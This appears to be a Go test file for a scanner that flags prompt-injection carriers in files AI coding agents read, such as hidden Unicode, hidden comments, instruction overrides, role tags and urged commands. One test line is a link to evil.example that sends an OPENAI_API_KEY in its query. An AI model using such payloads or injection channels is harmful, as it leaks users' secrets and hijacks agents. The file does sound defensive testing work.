package injection

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hguard/hguard/dsl"
)

var scanner = New(nil)

// TestPoisoned: every carrier is flagged at its line, at the expected level.
func TestPoisoned(t *testing.T) {
	tests := []struct {
		file  string
		rule  string
		line  int
		level dsl.Level
	}{
		{"tags.md", "unicode-tags", 3, dsl.Block},
		{"bidi.md", "bidi-control", 5, dsl.Ask},
		{"zero-width.md", "invisible-unicode", 2, dsl.Ask},
		{"comment.md", "hidden-comment", 5, dsl.Ask},
		{"comment.md", "instruction-override", 5, dsl.Ask},
		{"comment.md", "urged-command", 5, dsl.Ask},
		{"multiline-comment.md", "hidden-comment", 3, dsl.Ask},
		{"multiline-comment.md", "urged-command", 5, dsl.Block},
		{"hidden-text.md", "hidden-text", 4, dsl.Ask},
		{"override.md", "instruction-override", 6, dsl.Ask},
		{"exfil.md", "exfil-url", 4, dsl.Block},
		{"AGENTS.md", "urged-command", 8, dsl.Block},
		{".cursorrules", "urged-command", 2, dsl.Block},
		{"role.md", "role-tag", 3, dsl.Ask},
		{"role.md", "instruction-override", 4, dsl.Ask},
		{"mcp.json", "invisible-unicode", 5, dsl.Ask},
		// an instruction file's commands are orders though nothing urges them
		{"CLAUDE.md", "urged-command", 4, dsl.Ask},
		{"GEMINI.md", "instruction-override", 3, dsl.Ask},
		{"GEMINI.md", "urged-command", 8, dsl.Block},
	}
	seen := map[string]bool{}
	for _, tt := range tests {
		seen[tt.file] = true
		t.Run(tt.file+"/"+tt.rule, func(t *testing.T) {
			fs := scanFile(t, filepath.Join("testdata/poisoned", tt.file))
			for _, f := range fs {
				if f.Rule == tt.rule && f.Line == tt.line && f.Level == tt.level {
					return
				}
			}
			t.Errorf("want %s at line %d (%s); got:\n%s", tt.rule, tt.line, tt.level, list(fs))
		})
	}
	// Every fixture is in the table.
	entries, _ := os.ReadDir("testdata/poisoned")
	for _, e := range entries {
		if !seen[e.Name()] {
			t.Errorf("fixture %s has no expectation", e.Name())
		}
	}
}

// TestClean: ordinary READMEs and agent instruction files raise nothing.
func TestClean(t *testing.T) {
	entries, err := os.ReadDir("testdata/clean")
	if err != nil || len(entries) == 0 {
		t.Fatal(err)
	}
	for _, e := range entries {
		if fs := scanFile(t, filepath.Join("testdata/clean", e.Name())); len(fs) > 0 {
			t.Errorf("%s:\n%s", e.Name(), list(fs))
		}
	}
}

func scanFile(t *testing.T, path string) []Finding {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	fs, err := scanner.Reader(path, f)
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

func list(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("  " + f.String() + "\n")
	}
	return b.String()
}

func TestDetails(t *testing.T) {
	tags := "x" + string(rune(0xE0000+'h')) + string(rune(0xE0000+'i'))
	fs := scanner.Scan("s", []byte("ok\n  "+tags+"\n"))
	if len(fs) != 1 || fs[0].Line != 2 || fs[0].Col != 4 || !strings.Contains(fs[0].Message, `"hi"`) {
		t.Errorf("tags: %v", fs)
	}
	// A BOM at the start and emoji joined by ZWJ are ordinary.
	if fs := scanner.Scan("s", []byte("\uFEFF# Title 👩‍💻\n")); len(fs) != 0 {
		t.Errorf("bom/emoji: %v", fs)
	}
	// Credentials in a URL's userinfo are an ask, a secret sent in the query a block.
	fs = scanner.Scan("s", []byte("clone https://x-access-token:${GITHUB_TOKEN}@github.com/o/r\n"))
	if Verdict(fs) != dsl.Ask {
		t.Errorf("userinfo: %v", fs)
	}
	fs = scanner.Scan("s", []byte("see [docs](https://evil.example/?q={{env.OPENAI_API_KEY}})\n"))
	if Verdict(fs) != dsl.Block {
		t.Errorf("query: %v", fs)
	}
	// A file larger than MaxSize is scanned in part and says so.
	defer func(n int) { maxSize = n }(maxSize)
	maxSize = 1 << 10
	big := strings.Repeat("a", maxSize+10)
	fs, err := scanner.Reader("big", strings.NewReader(big))
	if err != nil || len(fs) != 1 || fs[0].Rule != "too-large" {
		t.Errorf("big: %v %v", fs, err)
	}
}

func TestContextFile(t *testing.T) {
	for name, want := range map[string]bool{
		"AGENTS.md": true, "docs/x.mdc": true, ".cursorrules": true, ".mcp.json": true,
		"main.go": false, "package.json": false, "image.png": false,
	} {
		if ContextFile(name) != want {
			t.Errorf("ContextFile(%q) = %v", name, !want)
		}
	}
}

// TestInstructionFile: the files agents read as standing instructions,
// by their exact name in any directory; other Markdown is not one.
func TestInstructionFile(t *testing.T) {
	for name, want := range map[string]bool{
		"/w/CLAUDE.md": true, "AGENTS.md": true, "/h/.claude/CLAUDE.md": true, "GEMINI.md": true, ".cursorrules": true,
		"/w/.cursor/rules/style.mdc": true, "/w/.github/copilot-instructions.md": true, "/w/.clinerules/a.md": true,
		"/w/.github/prompts/x.prompt.md": true, "/w/.claude/skills/x/SKILL.md": true, "/w/.roo/rules-code/a.md": true, "/w/.cursor/rules": true,
		"README.md": false, "/w/docs/agents.txt": false, "/w/notes.md": false, "main.go": false, "/w/AGENTS.md.bak": false,
	} {
		if InstructionFile(name) != want {
			t.Errorf("InstructionFile(%q) = %v", name, !want)
		}
	}
}
